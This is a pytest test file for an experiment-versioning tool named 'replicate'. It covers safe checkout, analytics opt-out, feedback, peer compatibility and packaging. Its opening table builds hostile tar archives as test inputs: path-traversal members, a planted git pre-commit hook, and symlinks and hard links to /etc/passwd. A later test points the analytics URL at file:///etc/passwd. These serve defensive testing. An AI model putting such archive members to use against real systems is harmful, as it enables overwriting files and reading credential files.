    "cut": lambda data, item: data[:len(data) * 2 // 3],
    # without the end-of-archive blocks of the tar, nobody knows whether files are missing
    "cut between gzip members": lambda data, item: gzip.compress(tar_block(item + "/good", b"evil")),
    "flipped": lambda data, item: data[:len(data) // 3] + bytes([data[len(data) // 3] ^ 0xff]) + data[len(data) // 3 + 1:],
    "not gzip": lambda data, item: b"not gzip at all" * 100, "empty": lambda data, item: b"",
    "garbage after": lambda data, item: data + b"garbage",
    "checksum": lambda data, item: gzip.compress(tar_block(item + "/train.py", b"evil") + bytes(1024))[:-8] + bytes(8),
    "outside": with_member("%s/x/../../../evil", b"evil"), "absolute": with_member("/tmp/evil", b"evil"),
    "above": with_member("../evil", b"evil"), "git": with_member("%s/.git/hooks/pre-commit", b"evil"),
    "own": with_member("%s/.replicate/storage/repository.json", b"evil"),
    "below a file": with_member("%s/good/below", b"evil"),
    "symlink": with_member("%s/link", kind=tarfile.SYMTYPE, target="/etc/passwd"),
    "hard link": with_member("%s/link", kind=tarfile.LNKTYPE, target="/etc/passwd"),
    "pipe": with_member("%s/pipe", kind=tarfile.FIFOTYPE), "missing": None}


@pytest.mark.parametrize("damage", DAMAGE)
def test_nothing_is_written_for_a_hostile_damaged_or_missing_archive(project, says, call, tmp_path, damage):
    items = dict(zip(["experiments", "checkpoints"], recorded(project)))
    paths = {kind: project / "repo" / kind / (item + ".tar.gz") for kind, item in items.items()}
    whole = {kind: path.read_bytes() for kind, path in paths.items()}
    fill(project, {"good": b"mine", "train.py": b"mine"})
    for kinds in (["experiments"], ["checkpoints"], ["experiments", "checkpoints"]):
        for kind, path in paths.items():
            path.write_bytes(DAMAGE[damage](whole[kind], items[kind]) if kind in kinds and DAMAGE[damage] else whole[kind])
            if kind in kinds and damage == "missing":
                path.unlink()
        before = snapshot(project), os.listdir(str(tmp_path))
        for arguments in ([], ["-o", "a/b/fresh"]):
            err = says("checkout", items["checkpoints"], "-f", *arguments, code=1)
            assert any(items[kind][:7] in err for kind in kinds) and ("gone" in err) == (damage == "missing")
            assert (snapshot(project), os.listdir(str(tmp_path))) == before
        assert call("ls")[0] == call("show", items["experiments"])[0] == 0


@pytest.mark.parametrize("function, count", [("chmod", 0), ("chmod", 2), ("replace", 0), ("replace", 1), ("replace", 2)])
def test_a_killed_checkout_can_be_run_again_and_leaves_nothing_behind(project, function, count):
    _, first, _ = recorded(project)
    fill(project, {"out/data/in.txt": b"mine"})
    killed = run_script("""
        import os, signal, sys, replicate
        name, left = sys.argv[1], int(sys.argv[2])
        real = getattr(os, name)
        def killing(path, *rest, **more):
            global left
            if replicate.STAGING_PREFIX in str(path):
                left -= 1
                if left < 0:
                    os.kill(os.getpid(), signal.SIGKILL)
            return real(path, *rest, **more)
        setattr(os, name, killing)
        sys.exit(replicate.main(sys.argv[3:]))
        """, function, count, "checkout", first, "-f", "-o", "out", check=False)
    assert killed.returncode == -signal.SIGKILL, killed.stderr
    whole = {"train.py": b"code\n", "data/in.txt": b"data of checkpoint 0", "model/weights": b"weights 0",
             "replicate.yaml": b"repository: file://repo\n"}
    for name, content in tree(project / "out").items():
        if replicate.STAGING_PREFIX not in name:
            assert content in (whole[name], b"mine")
    assert run("checkout", first, "-f", "-o", "out").returncode == 0
    assert tree(project / "out") == whole
    assert not [name for name in os.listdir(project / "out") if name.startswith(replicate.STAGING_PREFIX)]


def test_a_checkout_leaves_alone_what_another_machine_checks_out_into_the_folder(project, call, monkeypatch):
    _, first, _ = recorded(project)
    gone = subprocess.Popen(["true"])
    gone.wait()
    with monkeypatch.context() as elsewhere:
        elsewhere.setattr(os, "getpid", lambda: gone.pid)
        elsewhere.setattr(platform, "node", lambda: "other")
        others = replicate.Checkout("out").__enter__()
        elsewhere.setattr(platform, "node", lambda: "this")
        ours = replicate.Checkout("out").__enter__()
    monkeypatch.setattr(platform, "node", lambda: "this")
    assert call("checkout", first, "-f", "-o", "out")[0] == 0
    assert os.path.isdir(others._staging) and not os.path.exists(ours._staging)


# -- analytics and feedback

@pytest.fixture
def collector(monkeypatch):
    """An HTTP server that analytics go to: .url, and .posts, a queue of (path, headers, parsed JSON)."""
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_POST(self):
            body = self.rfile.read(int(self.headers["Content-Length"]))
            self.server.posts.put((self.path, dict(self.headers), json.loads(body)))
            self.send_response_only(200)  # and logs nothing
            self.end_headers()

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.posts, server.url = queue.Queue(), "http://127.0.0.1:%d/collect" % server.server_port
    threading.Thread(target=server.serve_forever, daemon=True).start()
    for name in ("no_proxy", "NO_PROXY"):
        monkeypatch.setenv(name, "127.0.0.1")
    monkeypatch.setenv("REPLICATE_ANALYTICS_URL", server.url)
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def settings(tmp_path):
    """Where the program keeps its settings."""
    return tmp_path / "home/.config/replicate"


def test_the_first_run_only_explains_and_events_are_sent_after_fifteen_or_five_minutes(call, settings, collector, a_and_b):
    out = call("analytics")[1]
    example = json.loads(out[out.index("{"):])
    assert collector.url in out and not settings.exists()
    code, out, err = call("list", "-q")
    assert (code, out) == (0, A + "\n" + B + "\n") and collector.url in err and "replicate analytics off" in err
    assert not (settings / "events.json").exists()
    for number in range(15):
        assert call(*(["list", "-q"] if number % 2 else ["show", A]))[0] == 0
        assert call("help", "ls")[0] == call("analytics")[0] == call("analytics", "on")[0] == 0  # which are no events
        if number == 1:
            assert len(json.loads((settings / "events.json").read_text())) == 2
            assert [path.stat().st_mode & 0o777 for path in settings.glob("*.json")] == [0o600] * 2
    path, headers, events = collector.posts.get(timeout=60)
    assert path == "/collect" and headers["Content-Type"] == "application/json" and len(events) == 15
    token = json.loads((settings / "settings.json").read_text())["anonymous_id"]
    assert re.fullmatch("[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}", token)
    for number, event in enumerate(events):
        assert event.keys() == example.keys() and event["properties"].keys() == example["properties"].keys()
        replicate.parse_time(event["properties"].pop("timestamp"))
        assert event == {"anonymous_id": token, "event": event["event"], "properties": {
            "command": "replicate ls" if number % 2 else "replicate show", "replicate_version": replicate.__version__,
            "operating_system": sys.platform, "cpu_architecture": platform.machine()}}
        assert isinstance(event["event"], str)
    assert collector.posts.empty()
    call("ls")
    events = json.loads((settings / "events.json").read_text())
    events[0]["properties"]["timestamp"] = replicate.timestamp(time.time() - 301)
    (settings / "events.json").write_text(json.dumps(events))
    call("ls")
    assert len(collector.posts.get(timeout=60)[2]) == 2


@pytest.mark.parametrize("variable", ["REPLICATE_NO_ANALYTICS", "DO_NOT_TRACK", None])
def test_analytics_can_be_switched_off(project, call, settings, collector, monkeypatch, variable):
    if variable:
        monkeypatch.setenv(variable, "1")
    else:
        assert call("analytics", "off")[0] == 0
        assert json.loads((settings / "settings.json").read_text())["analytics_enabled"] is False
    for _ in range(17):
        assert collector.url not in call("ls")[2]
    assert not (settings / "events.json").exists() and collector.posts.empty()
    assert "off" in call("analytics")[1]
    if not variable:
        assert call("analytics", "on")[0] == 0
        call("ls")
        assert (settings / "events.json").exists() and "are on" in call("analytics")[1]


def test_the_settings_follow_xdg_config_home_and_may_not_be_writable(project, call, says, settings, tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    assert call("analytics", "off")[0] == 0
    assert (tmp_path / "xdg/replicate/settings.json").exists() and not settings.exists()
    monkeypatch.setenv("XDG_CONFIG_HOME", str(project / "replicate.yaml"))
    assert "replicate.yaml/replicate cannot be created" in says("analytics", "off", code=1)


def test_analytics_never_fail_a_command_and_do_not_exist_without_a_url(project, call, settings, monkeypatch):
    assert [call("ls", "-q")[2] for _ in range(17)] == [""] * 17 and not settings.exists()
    monkeypatch.setenv("REPLICATE_ANALYTICS_URL", "http://127.0.0.1:1/")
    call("ls")
    for content in (b"{", b"[1, 2]", b'[{"properties": 1}]', json.dumps([replicate.Analytics().event("ls")] * 500).encode()):
        (settings / "events.json").write_bytes(content)
        assert call("ls") == (0, "", "═══╡ No experiments found\n")
        if (settings / "events.json").exists():
            assert len(json.loads((settings / "events.json").read_text())) <= 100
    (settings / "settings.json").write_text("[")
    assert call("ls")[0] == 0
    monkeypatch.setenv("XDG_CONFIG_HOME", str(project / "replicate.yaml"))
    assert call("ls")[:2] == (0, "")
    monkeypatch.setenv("REPLICATE_ANALYTICS_URL", "file:///etc/passwd")
    assert call("ls")[:2] == (0, "")


def test_feedback_is_printed_ready_to_paste_or_posted(project, collector, monkeypatch):
    done = run("feedback", input="it is\ngood")
    assert done.returncode == 0 and "it is\ngood" in json.loads(done.stdout).values() and "REPLICATE_FEEDBACK_URL" in done.stderr
    monkeypatch.setenv("REPLICATE_FEEDBACK_URL", collector.url)
    for arguments, text in ((["feedback", "it", "is good"], ""), (["feedback"], "it is good\n")):
        done = run(*arguments, input=text)
        assert (done.returncode, done.stdout) == (0, "")
        content = collector.posts.get(timeout=60)[2]
        assert "it is good" in content.values() and replicate.__version__ in content.values()
    terminal = Terminal("feedback").expect("?").send("from a terminal\n")
    assert terminal.wait() == 0 and "from a terminal" in collector.posts.get(timeout=60)[2].values()


@pytest.mark.parametrize("arguments, text, env, error", [
    (["feedback"], " \n", {}, ""), (["feedback", ""], "", {}, ""),
    (["feedback", "x"], "", {"REPLICATE_FEEDBACK_URL": "http://127.0.0.1:1/", "no_proxy": "127.0.0.1"},
     "1/ cannot be reached: Connection refused.")])
def test_empty_feedback_or_a_url_that_cannot_be_reached_is_an_error(project, arguments, text, env, error):
    done = run(*arguments, input=text, env=env)
    assert (done.returncode, done.stdout) == (1, "") and error in done.stderr and "Traceback" not in done.stderr


# -- demo

def outside(**changes):
    """The environment without this project's directory on Python's path."""
    return dict({name: value for name, value in os.environ.items() if name != "PYTHONPATH"}, **changes)


def test_a_copy_of_the_file_is_all_that_a_bare_python_needs_for_the_demo_and_its_commands(tmp_path):
    python, cwd = tmp_path / "venv/bin/python", tmp_path / "empty folder"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(tmp_path / "venv")], check=True)
    cwd.mkdir()
    shutil.copy(PROGRAM, cwd)

    def shell(command):
        return subprocess.run(command, shell=True, cwd=cwd, env=outside(), capture_output=True, text=True)

    assert shell("%s -c 'import yaml'" % python).returncode == 1  # nothing is installed
    done = shell("%s -I replicate.py --help" % python)
    assert done.returncode == 0 and "checkout" in done.stdout
    done = shell("%s -O -W error replicate.py ls" % python)
    assert "Warning" not in done.stderr and "Traceback" not in done.stderr
    done = shell("%s replicate.py demo" % python)
    assert done.returncode == 0, done.stderr
    documents = stored_documents(cwd / "replicate-demo/.replicate/storage")
    assert len(documents) == 4 and all(len(document["checkpoints"]) >= 2 for document in documents)
    assert len({json.dumps(document["params"]) for document in documents}) == 4
    assert all(document["id"][:7] in done.stdout for document in documents)
    assert len((cwd / "replicate-demo/train.py").read_text().splitlines()) <= 30
    commands = [line.strip() for line in done.stdout.split("\n") if " -D " in line]
    assert len(commands) >= 3
    for command in commands:
        pasted = shell(command)
        assert pasted.returncode == 0, (command, pasted.stderr)
        assert pasted.stdout or "checkout" in command
    assert "train.py" in tree(cwd / "replicate-demo/best")
    again = shell("%s replicate.py demo" % python)
    assert again.returncode == 0 and len(stored_documents(cwd / "replicate-demo/.replicate/storage")) == 4


# ------------------------------------------------------------------------------------------------------------------
# 12  Compatibility with the peer, keepsake 0.4.2
# ------------------------------------------------------------------------------------------------------------------

class Peer:
    """The real peer in a virtual environment: its command line and its Python library."""

    def __init__(self, directory):
        self.directory = Path(directory)

    def __call__(self, *arguments):
        done = subprocess.run([str(self.directory / "bin/keepsake"), *map(str, arguments)], capture_output=True, text=True,
                              encoding="utf-8", stdin=subprocess.DEVNULL, timeout=120)
        assert done.returncode == 0, done.stderr
        return done

    def start(self, source):
        """A training script with the peer's library, which runs beside the test."""
        programs = self.directory / "bin"
        return Training(source, prefix="", python=str(programs / "python"),
                        env={"PATH": "%s:%s" % (programs, os.environ["PATH"]), "PYTHONPATH": ""})


@pytest.fixture
def peer(project, monkeypatch):
    """The peer beside the program, in the same project; it does not phone home."""
    directory = os.environ.get("REPLICATE_PEER", PEER)
    if not directory or not os.path.exists(os.path.join(directory, "bin/keepsake")):
        pytest.skip("REPLICATE_PEER names no virtual environment with keepsake 0.4.2")
    (project / "keepsake.yaml").write_text("repository: file://repo\n")
    monkeypatch.setenv("NO_COLOR", "1")
    found = Peer(directory)
    found("analytics", "off")
    return found


PEER = os.environ.get("REPLICATE_PEER")  # before the fixture `sealed` hides it

RECORDING = """
    import os, {0} as library
    from math import inf, nan
    experiment = library.init(path="code", params=dict(
        {{"int": 1, "float": 0.25, "text": "héllo", "none": None, "true": True, "nested": {{"a": [1, {{"b": None}}]}},
          "big": 2**53 + 1, "list": [1.5, "x"]}}, **{1}))
    for step in range(3):
        open("out/weights.bin", "wb").write(os.urandom(1500000) + bytes(200000))
        open("out/log.txt", "w").write("step %d" % step)
        experiment.checkpoint(path="out", step=step, metrics=dict({{"loss": 1 / (step + 2), "nan": nan}}, **{2}),
                              primary_metric=("loss", "minimize"))
    experiment.checkpoint(step=9, metrics={3}, primary_metric=("loss", "minimize"))
    experiment.stop()
    """


def files_of_every_kind(project):
    """Code with many files and directories, empty ones, long and unicode names."""
    (project / "out").mkdir()
    names = ["train.py", "deep/er/and/er/module.py", "ünï/日本.txt", "n" * 150 + ".txt", ("d" * 60 + "/") * 4 + "f"]
    names += ["many/%04d.txt" % number for number in range(300)]
    fill(project / "code", {"empty": b"", **{name: ("content of code/" + name).encode() for name in names}})


def stripped(text):
    """Lines without the spaces at their ends: the peer pads its last column."""
    return [line.rstrip() for line in text.split("\n")]


def timeless(text):
    """The cells of a table without its relative times, which change from one second to the next."""
    return cells(re.sub(r"(about an?|one|\d+) \w+ ago", "TIME", text))


def shown(text):
    """`show` without what the two print differently: column width, NaN, nested params, how it ended, and packages."""
    text = "\n".join(re.sub(" +", " ", line).strip() for line in text.split("\n"))
    text = re.sub(r'(?m)^nested: \{"a":(.*)\}$', r"nested.a: \1", text)
    text = re.sub(r"(?m)^(Ended|Error): .*\n", "", text).replace("Status: completed", "Status: stopped")
    text = re.sub(r"(?is)\nPython packages\n.*?(\n\n|$)", "\n", text)
    return re.sub(r'"\[(NaN|[+-]Inf)(inity)?\]"', r"\1", text).strip()


@pytest.mark.parametrize("library, params, metrics, last", [
    ("replicate", {"empty": "", "None": "None", "nan": math.nan, "inf": math.inf}, {"text": "x"}, {"loss": -math.inf, "nan": 2, "text": "yy"}),
    ("keepsake", {}, {"inf": math.inf}, {"loss": 7.0, "nan": 2})], ids=["replicate", "keepsake"])
def test_either_program_reads_and_removes_what_the_other_records(project, peer, call, library, params, metrics, last):
    files_of_every_kind(project)
    script = RECORDING.format(library, params, metrics, last)
    run_script(script) if library == "replicate" else peer.start(script).end()
    (document,) = stored_documents(project / "repo")
    experiment, checkpoints = document["id"], [item["id"] for item in document["checkpoints"]]
    (theirs,), (ours,) = json.loads(peer("ls", "--json").stdout), json.loads(call("ls", "--json")[1])
    own = [ours.pop(key, None) for key in ("status", "code", "outcome")]  # keys of our own
    for item in (theirs, ours):
        item["created"] = replicate.canonical_time(item["created"])  # the peer leaves out zeros at the end
    assert (own == ["stopped", None, None]) == (library == "keepsake")
    if "None" in params:
        ours["params"]["None"] = None  # the peer takes this string for null
    assert {key: theirs.get(key) for key in ours if "checkpoint" not in key} == {
        key: value for key, value in ours.items() if "checkpoint" not in key}
    assert ours["best_checkpoint"]["id"] == theirs["best_checkpoint"]["id"] == checkpoints[3 if last["loss"] < 0 else 2]
    assert ours["latest_checkpoint"]["id"] == theirs["latest_checkpoint"]["id"] == checkpoints[3] and theirs["num_checkpoints"] == 4
    for item in (checkpoints[0], checkpoints[3]):
        assert shown(peer("show", item).stdout).replace("None: null", "None: None") == shown(call("show", item)[1])
    if library == "keepsake":
        assert timeless(peer("ls").stdout) == timeless(call("ls")[1])
    else:  # the peer cannot show an experiment whose checkpoints have different metrics
        theirs, ours = (timeless(text) for text in (peer("show", experiment).stdout, call("show", experiment)[1]))
        theirs, ours = (rows[rows.index(["Checkpoints"]) + 1:][:5] for rows in (theirs, ours))
        assert ours == theirs and [row[0] for row in ours[1:]] == [item[:7] for item in checkpoints]
    assert "Command" not in peer("diff", *checkpoints[:2]).stdout and call("diff", *checkpoints[:2])[0] == 0
    expected = {"code/" + name: content for name, content in tree(project / "code").items()}
    for number, item in enumerate(checkpoints):
        peer("checkout", "-f", item, "-o", "peer%d" % number)
        assert call("checkout", "-f", item, "-o", "ours%d" % number)[0] == 0
        got = tree(project / ("ours%d" % number))
        assert got == tree(project / ("peer%d" % number))
        assert {name: content for name, content in got.items() if name.startswith("code/")} == expected
        assert len(got) == len(expected) + (2 if number < 3 else 0)
    assert got == expected and tree(project / "peer2")["out/weights.bin"] == (project / "out/weights.bin").read_bytes()
    found = replicate.experiments.get(experiment)
    assert found.checkpoints[0].open("out/log.txt").read() == b"step 0"
    assert found.replicate_version == (replicate.__version__ if library == "replicate" else "0.4.2")

    remove = peer if library == "replicate" else run
    remove("rm", "-f", checkpoints[0])
    left = 4 if library == "replicate" else 3  # the peer removes its files alone
    assert json.loads(peer("ls", "--json").stdout)[0]["num_checkpoints"] == left and call("ls")[0] == call("show", experiment)[0] == 0
    code, _, err = call("checkout", checkpoints[0], "-o", "out2")
    assert code == 1 and ("gone" in err or "not found" in err)
    remove("rm", "-f", experiment)
    assert peer("ls", "-q").stdout == call("ls", "-q")[1] == "" and set(tree(project / "repo")) == {"repository.json"}


def test_big_ints_do_not_stop_the_peer(project, peer):
    run_script("import replicate\n"
               "with replicate.init(params={'a': 2**63, 'b': 2**70, 'c': -2**63, 'd': 2**63 - 1}, quiet=True) as experiment:\n"
               "    experiment.checkpoint(metrics={'m': 2**70}, quiet=True)")
    item = stored_documents(project / "repo")[0]["id"]
    assert peer("ls", "-q").stdout == item + "\n"
    assert json.loads(run("ls", "--json").stdout)[0]["params"] == {"a": 2 ** 63, "b": 2 ** 70, "c": -2 ** 63, "d": 2 ** 63 - 1}
    assert "9223372036854775807" in peer("show", item).stdout and "9223372036854775808" in run("show", item).stdout


def test_diff_of_both_programs(project, peer, call):
    write_runs(project / "repo", dict(params={"lr": 0.1, "only": "x", "same": 1}, checkpoints=SPECIFICATION_CHECKPOINTS), dict(
        params={"lr": 0.2, "same": 1, "param-3": "hi" * 40}, user="ben", python_packages={"foo": "2.0"}, checkpoints=[
            checkpoint_document(hex_id("5c"), step=5, metrics={"metric-1": 0.5}, path="data")]))
    assert stripped(peer("diff", C, hex_id("5c")).stdout)[:-1] == stripped(call("diff", C, hex_id("5c"))[1])


@pytest.mark.parametrize("library", ["keepsake", "replicate"])
def test_both_programs_show_who_runs(project, peer, training, library):
    script = (peer.start if library == "keepsake" else training)("""
        import sys, %s as library
        experiment = library.init()
        experiment.checkpoint(step=1)
        print("on", flush=True)
        sys.stdin.read()
        experiment.stop()
        """ % library)
    script.expect("on")
    until(lambda: names_in(project / "repo/metadata/heartbeats") and stored_documents(project / "repo"), 60)
    assert peer("ps", "-q").stdout == run("ps", "-q").stdout == stored_documents(project / "repo")[0]["id"] + "\n"
    script.end()
    assert peer("ps", "-q").stdout == run("ps", "-q").stdout == ""


def test_the_peer_lists_while_we_record(project, peer, training):
    """Whatever moment the peer reads at, it finds whole documents and archives."""
    (project / "model").write_bytes(os.urandom(100000))
    script = training("""
        experiment = replicate.init(path="model", quiet=True)
        for step in range(200):
            experiment.checkpoint(path="model", step=step, metrics={"x": step}, quiet=True)
            if step == 1:
                wait("begun")
        """)
    script.expect("begun")
    script.go()
    seen = 0
    while not seen or script.process.poll() is None:
        done = peer("ls", "--json")
        assert done.stderr == ""
        seen += len(json.loads(done.stdout))
    assert script.end() == ""
    assert json.loads(peer("ls", "--json").stdout)[0]["num_checkpoints"] == 200


def test_numbers_look_as_the_peer_prints_them(project, peer, call):
    numbers = [0.0, -0.0, 1.0, -1.5, 0.1, 1 / 3, 1e-5, 9.9999e-5, 0.0001, 1.23456789e-10, 12345.678, 99999.4, 99999.9, 1e5,
               100000.5, 123456.789, 1234567.0, 1e6, 1e7, 123456789.125, 1e15, 1e16, 2.0 ** 53, 1e19, 9.9e19, 1e20, 1.5e20,
               1e21, 1e22, 1.7e308, 5e-324, -1e5, -123456.789, -1e10, 0.1 + 0.2, 2.5, 1e5 + 1e-9, 3.14159265358979, 1e100]
    whole = [int(number) for number in numbers if abs(number) < 2 ** 62 and number == int(number)]
    values = numbers + whole + [2 ** 63 - 1, -2 ** 63]
    values += ["x" * 20, "x" * 21, "x" * 17, "", "é" * 9, True, False, None, "[NaN]", "[+Infinity]", "[-Infinity]"]
    write_repository(project / "repo", experiment_document(A, params={"p%03d" % number: value for number, value in enumerate(values)}))
    assert stripped(peer("ls", "--all").stdout) == stripped(call("ls", "--all")[1])


def test_times_look_as_the_peer_prints_them(project, peer, call):
    now = time.time()
    ages = [0, 5, 29, 31, 45, 58.2, 65, 85, 95, 200, 44 * 60, 55 * 60, 65 * 60, 85 * 60, 100 * 60, 5 * 3600, 20 * 3600, 22 * 3600, 25 * 3600,
            35 * 3600, 37 * 3600, 47 * 3600, 49 * 3600, 71 * 3600, 72.5 * 3600, 74 * 3600, 900 * 3600]
    write_repository(project / "repo", *(experiment_document("%064x" % number, created=replicate.timestamp(now - age))
                                         for number, age in enumerate(ages, 1)))

    def started(text):
        return {line[:7]: line[12:30].split("  ")[0].strip() for line in text.split("\n")[1:] if line.strip()}

    until(lambda: started(peer("ls", "--sort", "started").stdout) == started(call("ls")[1]))  # the clock may tick between the two


@pytest.mark.parametrize("filters", [["lr > 0.15"], ["name = adam"], ["name != adam"], ["step >= 1"], ["status = stopped"], ["user = ben"],
                                     ["loss < 0.3"], ["lr = 0.1", "loss < 1"], ["foo foo = bar bar"]], ids=str)
def test_filters_select_what_the_peer_selects(project, peer, call, filters):
    write_runs(project / "repo", dict(params={"lr": 0.1, "name": "adam", "foo foo": "bar bar"}, checkpoints=[
        checkpoint_document(C, step=1, metrics={"loss": 0.2}, primary=("loss", "minimize"))]), dict(
            user="ben", params={"lr": 0.2, "name": "sgd", "foo foo": "x"}, checkpoints=[
                checkpoint_document(D, step=2, metrics={"loss": 0.4}, primary=("loss", "minimize"))]))
    flags = [flag for text in filters for flag in ("-f", text)]
    assert peer("ls", "-q", *flags).stdout == call("ls", "-q", *flags)[1]


# ------------------------------------------------------------------------------------------------------------------
# 13  Packaging and start-up
# ------------------------------------------------------------------------------------------------------------------

REAL_HOME = os.environ.get("HOME", "/")  # package managers have their settings and caches there
HEAVY = {"yaml", "boto3", "botocore", "google", "ssl", "numpy", "matplotlib", "torch", "asyncio", "multiprocessing",
         "concurrent", "urllib.request", "http", "unittest", "email", "xml", "ctypes"}


def imported(*arguments):
    """The modules that running the command (or, without arguments, importing the library) adds to a plain Python's."""
    body = "import replicate" if not arguments else (
        "sys.argv = ['replicate.py', *sys.argv[1:]]\n"
        "with contextlib.suppress(SystemExit):\n    runpy.run_path(%r, run_name='__main__')" % str(PROGRAM))
    done = run_script("import contextlib, runpy, sys\nbefore = set(sys.modules)\n%s\nprint(*sorted(set(sys.modules) - before), file=sys.stderr)"
                      % body, *arguments)
    return set(done.stderr.split("\n")[-2].split())


@pytest.mark.parametrize("arguments", [[], ["--version"], ["--help"], ["ls"], ["ls", "--json"], ["show", A]], ids=lambda words: "-".join(words) or "import")
def test_what_is_imported(project, arguments):
    two_experiments(project, checkpoints=[checkpoint_document(C, metrics={"x": 1})])
    modules = imported(*arguments)
    heavy = HEAVY | ({"sqlite3", "subprocess", "difflib"} if arguments in ([], ["--version"]) else set())
    assert not {name for name in modules if name in heavy or name.split(".")[0] in heavy}
    assert arguments or "replicate" in modules


@pytest.mark.parametrize("text, needed", [
    (None, False), ("# 1\nrepository: 'file://repo'  # 2\n", False), ("repository: >-\n  file://repo\n", True)])
def test_yaml_is_imported_only_for_rich_configurations(project, text, needed):
    (project / "replicate.yaml").unlink()
    (project / ".replicate/storage").mkdir(parents=True)
    if text:
        (project / "replicate.yaml").write_text(text)
    assert ("yaml" in imported("ls")) is needed


# Takes away what Windows lacks, as far as that can be had here: there, open files cannot be moved or removed, too.
WINDOWS = """
import os, signal, sys

for name in ("pread", "pwrite", "geteuid", "getuid", "fork", "register_at_fork", "O_NONBLOCK", "O_NOFOLLOW", "O_CLOEXEC"):
    delattr(os, name)
for name in ("SIGHUP", "SIGUSR1", "SIGUSR2", "pthread_sigmask"):
    delattr(signal, name)
sys.modules.update(dict.fromkeys(("fcntl", "pwd", "grp", "resource", "termios")))

def refusing_open_files(function):
    def changed(path, *more):
        opened = [os.path.realpath("/proc/self/fd/" + number) for number in os.listdir("/proc/self/fd")]
        if os.path.realpath(path) in opened:
            raise PermissionError(13, "The process cannot access the file", path)
        function(path, *more)
    return changed

os.replace, os.unlink = refusing_open_files(os.replace), refusing_open_files(os.unlink)
import replicate
"""


@pytest.mark.skipif(not os.path.isdir("/proc/self/fd"), reason="the open files cannot be listed here")
def test_commands_need_nothing_that_windows_lacks(project):
    fill(project, {"code.py": b"print()\n" * 100, "weights": os.urandom(3 << 20)})
    for name in ("one", "two"):
        with replicate.init("code.py", {"lr": len(name)}, name=name) as experiment:
            for step in range(2):
                experiment.checkpoint("weights", step, {"loss": step}, ("loss", "minimize"))
    (project / "code.py").write_text("changed\n")
    commands = ["ls", "ps", "show one", "diff one two", "diff one --code", "checkout one -o copy", "plot", "report", "du", "verify",
                "tag one +good", "prune --force --keep-latest 0", "rm -f two", "push", "verify --fix", "ls -f tag=good"]
    done = run_script(WINDOWS + "for command in sys.argv[1:]:\n    assert replicate.main(command.split()) == 0, command", *commands,
                      env={"PYTHONWARNINGS": "error"})
    assert not re.search("could not|cannot|Warning", done.stderr)
    assert len((project / "copy/weights").read_bytes()) == 3 << 20
    assert len(stored_documents("repo")) == 1 and not list(Path("repo/tmp").iterdir())
    done = run_script(WINDOWS + "replicate.init()", check=False)
    assert "WriteError: Recording needs Linux or macOS" in done.stderr and len(stored_documents("repo")) == 1


def test_the_inline_metadata_is_what_pep_723_wants():
    block = re.search(r"(?m)^# /// (?P<type>[a-zA-Z0-9-]+)$\s(?P<content>(^#(| .*)$\s)+)^# ///$", PROGRAM.read_text())
    assert block["type"] == "script"
    assert 'requires-python = ">=3.8"' in block["content"] and "PyYAML" in block["content"]


def offline(text):
    """Whether a package manager's messages mean that there is no index to reach."""
    return re.search("(?i)could not find a version|no matching distribution|connection|network|resolve|timed out|failed to fetch|dns", text)


def test_pip_installs_the_command(tmp_path):
    source, binaries = tmp_path / "source", tmp_path / "venv/bin"
    source.mkdir()  # a copy, so that building leaves nothing in the project
    for name in ("replicate.py", "pyproject.toml", "README.md", "LICENSE"):
        shutil.copy(ROOT / name, source)

    def do(*command, **changes):
        return subprocess.run([str(word) for word in command], env=outside(**changes), cwd=tmp_path,
                              capture_output=True, text=True, timeout=170)

    assert do(sys.executable, "-m", "venv", tmp_path / "venv").returncode == 0
    done = do(binaries / "python", "-m", "pip", "install", "--disable-pip-version-check", source, HOME=REAL_HOME)
    if done.returncode and offline(done.stderr):
        pytest.skip("pip cannot reach a package index")
    assert done.returncode == 0, done.stderr
    assert do(binaries / "replicate", "--version").stdout == "replicate %s\n" % replicate.__version__
    shown = do(binaries / "python", "-m", "pip", "show", "replicate-vc").stdout
    assert "Name: replicate-vc\n" in shown and "Version: %s\n" % replicate.__version__ in shown
    assert do(binaries / "replicate", "nonsense").returncode == 2
    assert do(binaries / "python", "-c", "import replicate; replicate.init").returncode == 0


@pytest.mark.parametrize("runner", [["uv", "run"], ["pipx", "run"]], ids=lambda words: words[0])
def test_run_with_inline_metadata(tmp_path, runner):
    shutil.copy(PROGRAM, tmp_path / "replicate.py")
    if subprocess.run([sys.executable, "-c", "import %s" % runner[0]], capture_output=True).returncode == 0:
        runner = [sys.executable, "-m", *runner]
    elif not shutil.which(runner[0]):
        pytest.skip("%s is not installed" % runner[0])
    done = subprocess.run([*runner, "./replicate.py", "--version"], env=outside(HOME=REAL_HOME), cwd=tmp_path,
                          capture_output=True, text=True, timeout=170)
    if done.returncode and offline(done.stderr):
        pytest.skip("%s cannot reach a package index" % runner[0])
    assert done.stdout == "replicate %s\n" % replicate.__version__, done.stderr


# ------------------------------------------------------------------------------------------------------------------
# 14  The README
# ------------------------------------------------------------------------------------------------------------------

def readme_blocks(language):
    """The code blocks of the README in that language."""
    return re.findall(r"```%s\n(.*?)```" % language, (ROOT / "README.md").read_text(encoding="utf-8"), re.DOTALL)


def test_the_readme_begins_with_the_demo_and_the_tests_and_names_every_command():
    commands = [line for block in readme_blocks("sh") for line in block.splitlines()]
    assert commands[0] == "python3 replicate.py demo"
    assert commands[1].startswith("python3 -m venv .venv && ") and "pytest" in commands[1]
    text = (ROOT / "README.md").read_text(encoding="utf-8")
    assert "python3-venv" in text and [name for name in replicate.COMMANDS if "`%s" % name not in text] == []


def test_the_training_script_of_the_readme_runs_and_the_library_example_reads_what_it_recorded():
    datasets = pytest.importorskip("sklearn.datasets")
    joblib = pytest.importorskip("joblib")
    shutil.copy(PROGRAM, ".")
    training, *_, reading = readme_blocks("python")
    for name, source in (("train.py", training), ("again.py", training.replace("0.001", "0.01"))):
        Path(name).write_text(source)
        subprocess.run([sys.executable, name], check=True, timeout=120)
    listing = json.loads(run("ls", "--json").stdout)
    assert [row["params"]["alpha"] for row in listing] == [0.001, 0.01]
    reading = reading.replace('get("de7c2fd")', 'get("%s")' % listing[0]["id"][:7])
    run_script("import matplotlib; matplotlib.use('Agg')\n" + reading.replace(
        'replicate.Project(repository="s3://my-bucket")', 'replicate.Project(repository="file://.replicate/storage")'))
